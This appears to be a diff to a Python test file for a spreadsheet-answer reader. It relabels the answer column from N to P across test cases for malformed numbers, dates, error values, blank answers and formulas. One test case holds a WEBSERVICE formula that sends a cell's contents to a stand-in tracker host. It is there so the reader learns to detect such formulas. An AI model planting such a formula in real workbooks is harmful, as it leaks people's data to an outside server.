@@ -33,7 +33,7 @@ def _completed(plain: str, *problems: str) -> Read:
 
 
 def _formula(text: str, cached: str = "<v>7</v>", kind: str = "") -> Make:
-    return with_cells(N2=f"{kind}><f>{text}</f>{cached}</c>")
+    return with_cells(P2=f"{kind}><f>{text}</f>{cached}</c>")
 
 
 def _formatted(code: str, value: str) -> Make:
@@ -78,22 +78,22 @@ DATES = (
     Kind("a-truth-value-for-a-date", _date(' t="b"><v>1</v></c>'), _NO_DATE),
     Kind("a-date-for-a-status", with_cells(H4="><v>43406</v></c>"), Read(
         {k: v for k, v in USUAL.items() if k != ("2.1", "status")}, ("not-in-list",))),
-    Kind("a-date-for-a-comment", with_cells(N2=' s="26"><v>43406</v></c>'), taken(comment="2018-11-02")),
+    Kind("a-date-for-a-comment", with_cells(P2=' s="26"><v>43406</v></c>'), taken(comment="2018-11-02")),
 )
 NUMBERS = (
-    Kind("a-number-that-is-not-a-number", with_cells(N2="><v>NaN</v></c>"), DAMAGED),
-    Kind("an-infinite-number", with_cells(N2="><v>-INF</v></c>"), DAMAGED),
-    Kind("a-number-too-large-for-any-program", with_cells(N2="><v>1e999</v></c>"), DAMAGED),
-    Kind("a-number-with-an-underscore", with_cells(N2="><v>1_000</v></c>"), DAMAGED),
-    Kind("a-number-in-hexadecimal", with_cells(N2="><v>0x10</v></c>"), DAMAGED),
-    Kind("a-number-with-a-comma", with_cells(N2="><v>1,5</v></c>"), DAMAGED),
-    Kind("a-number-of-ten-thousand-digits", with_cells(N2=f'><v>{"1" * 10_000}</v></c>'), DAMAGED),
-    Kind("a-number-in-other-digits", with_cells(N2="><v>\u0663</v></c>"), taken(comment="3")),
-    Kind("a-number-for-a-comment", with_cells(N2="><v>11</v></c>"), taken(comment="11")),
-    Kind("a-tiny-number-for-a-comment", with_cells(N2="><v>1E-300</v></c>"), taken(comment="1e-300")),
-    Kind("a-number-that-no-binary-fraction-holds", with_cells(N2="><v>0.1</v></c>"), taken(comment="0.1")),
-    Kind("a-truth-value-for-a-comment", with_cells(N2=' t="b"><v>1</v></c>'), taken(comment="TRUE")),
-    Kind("a-truth-value-that-is-neither", with_cells(N2=' t="b"><v>2</v></c>'), DAMAGED),
+    Kind("a-number-that-is-not-a-number", with_cells(P2="><v>NaN</v></c>"), DAMAGED),
+    Kind("an-infinite-number", with_cells(P2="><v>-INF</v></c>"), DAMAGED),
+    Kind("a-number-too-large-for-any-program", with_cells(P2="><v>1e999</v></c>"), DAMAGED),
+    Kind("a-number-with-an-underscore", with_cells(P2="><v>1_000</v></c>"), DAMAGED),
+    Kind("a-number-in-hexadecimal", with_cells(P2="><v>0x10</v></c>"), DAMAGED),
+    Kind("a-number-with-a-comma", with_cells(P2="><v>1,5</v></c>"), DAMAGED),
+    Kind("a-number-of-ten-thousand-digits", with_cells(P2=f'><v>{"1" * 10_000}</v></c>'), DAMAGED),
+    Kind("a-number-in-other-digits", with_cells(P2="><v>\u0663</v></c>"), taken(comment="3")),
+    Kind("a-number-for-a-comment", with_cells(P2="><v>11</v></c>"), taken(comment="11")),
+    Kind("a-tiny-number-for-a-comment", with_cells(P2="><v>1E-300</v></c>"), taken(comment="1e-300")),
+    Kind("a-number-that-no-binary-fraction-holds", with_cells(P2="><v>0.1</v></c>"), taken(comment="0.1")),
+    Kind("a-truth-value-for-a-comment", with_cells(P2=' t="b"><v>1</v></c>'), taken(comment="TRUE")),
+    Kind("a-truth-value-that-is-neither", with_cells(P2=' t="b"><v>2</v></c>'), DAMAGED),
     Kind("a-number-for-a-status", with_cells(H4="><v>100</v></c>"), Read(
         {k: v for k, v in USUAL.items() if k != ("2.1", "status")}, ("not-in-list",))),
     Kind("a-reference-that-became-a-number", with_cells(A6="><v>3.1</v></c>"),
@@ -113,34 +113,34 @@ FORMULAS = (
     Kind("a-formula-that-asks-the-network", _formula("WEBSERVICE(&quot;http://tracker.invalid/&quot;&amp;A2)"), _FORMULA),
     Kind("a-formula-from-another-workbook", _formula("[1]Sheet1!$A$1"), _FORMULA),
     Kind("a-formula-shared-with-another-cell", with_cells(
-        N2='><f t="shared" ref="N2:N3" si="0">A2</f><v>1</v></c>', N3='><f t="shared" si="0"/><v>1</v></c>'),
+        P2='><f t="shared" ref="P2:P3" si="0">A2</f><v>1</v></c>', P3='><f t="shared" si="0"/><v>1</v></c>'),
          Read({k: v for k, v in USUAL.items() if k != ("1.2", "comment")}, ("formula-in-answer",) * 2)),
-    Kind("a-formula-over-an-array", with_cells(N2='><f t="array" ref="N2:N3">A2:A3</f><v>1</v></c>'), _FORMULA),
+    Kind("a-formula-over-an-array", with_cells(P2='><f t="array" ref="P2:P3">A2:A3</f><v>1</v></c>'), _FORMULA),
     Kind("a-formula-of-a-data-table", with_cells(
-        N2='><f t="dataTable" ref="N2:N3" dt2D="1" dtr="1" r1="A2" r2="A3"/><v>1</v></c>'), _FORMULA),
+        P2='><f t="dataTable" ref="P2:P3" dt2D="1" dtr="1" r1="A2" r2="A3"/><v>1</v></c>'), _FORMULA),
     Kind("a-formula-of-a-megabyte", _formula("1+" * 500_000 + "1"), Refusal("too-long")),
     Kind("a-formula-for-a-status", with_cells(H4=' t="str"><f>H3</f><v>Implemented</v></c>'), Read(
         {k: v for k, v in USUAL.items() if k != ("2.1", "status")}, ("formula-in-answer",))),
     Kind("a-formula-for-a-reference", with_cells(A3=' t="str"><f>A2&amp;""</f><v>1.2</v></c>'), Read(
         {k: v for k, v in USUAL.items() if k[0] != "1.2"}, ("ref-missing", "ref-unknown"))),
     Kind("formulas-of-ours-removed", of_parts(lambda into: set_cells(
-        into, {f"{column}{row}": "/>" for column in "QR" for row in range(2, 7)})), Read()),
+        into, {f"{column}{row}": "/>" for column in "ST" for row in range(2, 7)})), Read()),
     Kind("a-row-of-formulas-below-the-table", rows_added('<row r="7"><c r="A7"><f>SUM(A2:A6)</f><v>6</v></c></row>'),
          Read(problems=("ref-unknown",))),
 )
 ERRORS = tuple(
     Kind(f"the-error-{error.strip('#!?').replace('/', '').lower().replace('_', '-')}",
-         with_cells(N2=f' t="e"><v>{error}</v></c>'), taken("error-value"))
+         with_cells(P2=f' t="e"><v>{error}</v></c>'), taken("error-value"))
     for error in _ERRORS
 )  # fmt: skip
 EMPTIED = Read(USUAL, ("in-progress-without-comment", "overdue-unexplained"), ("answer-emptied",))
 BLANKS = (
-    Kind("an-error-that-is-none", with_cells(N2=' t="e"><v></v></c>'), EMPTIED),
-    Kind("an-answer-emptied", with_cells(N2="/>"), EMPTIED),
-    Kind("an-answer-of-blanks", with_cells(N2=inline(" \t\u00a0 ")), EMPTIED),
-    Kind("an-answer-of-characters-that-nobody-sees", with_cells(N2=inline("\u200b\u2060\ufeff")), EMPTIED),
+    Kind("an-error-that-is-none", with_cells(P2=' t="e"><v></v></c>'), EMPTIED),
+    Kind("an-answer-emptied", with_cells(P2="/>"), EMPTIED),
+    Kind("an-answer-of-blanks", with_cells(P2=inline(" \t\u00a0 ")), EMPTIED),
+    Kind("an-answer-of-characters-that-nobody-sees", with_cells(P2=inline("\u200b\u2060\ufeff")), EMPTIED),
     Kind("every-answer-emptied", of_parts(lambda into: set_cells(
-        into, {f"{column}{row}": "/>" for column in "HIN" for row in range(2, 7)})),
+        into, {f"{column}{row}": "/>" for column in "HIP" for row in range(2, 7)})),
          Read({}, ("not-yours-to-answer", "overdue-unexplained", *["status-missing"] * 4), ("answer-emptied",))),
 )
 KINDS = (*DATES, *NUMBERS, *FORMULAS, *ERRORS, *BLANKS)
